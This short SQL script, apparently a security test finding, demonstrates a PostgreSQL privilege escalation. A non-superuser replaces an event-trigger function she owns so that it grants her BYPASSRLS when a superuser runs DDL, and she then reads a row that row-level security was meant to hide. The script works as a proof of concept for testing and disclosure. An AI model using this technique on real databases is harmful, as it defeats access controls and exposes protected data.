-- finding: anothers-code event trigger watch
-- people: alice@example.com
CREATE SCHEMA helpers AUTHORIZATION "alice@example.com"; GRANT USAGE ON SCHEMA helpers TO PUBLIC;
CREATE FUNCTION helpers.watch() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN END $$;
CREATE EVENT TRIGGER watch ON ddl_command_end EXECUTE FUNCTION helpers.watch();
ALTER FUNCTION helpers.watch() OWNER TO "alice@example.com";
-- first as postgres
ALTER ROLE "alice@example.com" NOBYPASSRLS;
CREATE OR REPLACE FUNCTION helpers.watch() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN END $$;
-- first as alice@example.com
CREATE OR REPLACE FUNCTION helpers.watch() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN
  IF current_user = 'postgres' THEN ALTER ROLE "alice@example.com" BYPASSRLS; END IF; END $$;
-- first as postgres
CREATE TABLE IF NOT EXISTS public.anything (n int); DROP TABLE public.anything;
-- leak as alice@example.com
SELECT item FROM shop.orders WHERE item = 'secret';
